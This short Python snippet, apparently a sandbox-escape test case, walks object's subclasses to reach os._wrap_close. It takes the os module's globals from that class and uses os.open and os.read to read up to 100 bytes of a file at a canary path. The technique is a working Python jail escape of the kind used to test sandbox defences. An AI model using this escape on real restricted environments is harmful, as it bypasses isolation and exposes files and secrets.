# what: finds a class with os in its globals among the subclasses of object
for cls in "".__class__.__mro__[-1].__subclasses__():
    if cls.__name__ == "_wrap_close":
        scope = cls.__init__.__globals__
scope["read"](scope["open"](CANARY_PATH, 0), 100)
